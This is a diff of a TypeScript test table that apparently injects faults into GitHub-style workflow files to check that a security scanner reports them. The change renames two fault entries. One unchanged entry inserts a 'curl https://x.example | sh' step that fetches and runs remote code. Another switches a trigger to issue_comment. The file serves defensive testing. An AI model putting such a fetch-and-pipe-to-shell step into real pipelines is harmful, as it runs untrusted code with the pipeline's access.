@@ -92,7 +92,7 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     finds: /injection check, step 4/,
   },
   {
-    name: 'a command of its own',
+    name: "a command that isn't a script",
     file: PULL_REQUEST,
     change: ['run: npm run check\n', 'run: curl https://x.example | sh\n'],
     finds: /command .*isn't one of our scripts/,
@@ -152,7 +152,7 @@ const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = 
     finds: /runner check: it runs on "self-hosted"/,
   },
   {
-    name: 'a comment that starts a run of its own code',
+    name: 'a workflow that starts on a comment',
     file: COMMENT,
     change: [/on:\n {2}workflow_run:\n.*\n.*\n/, 'on: issue_comment\n'],
     finds: /foreign-code issue_comment lets outsiders/,
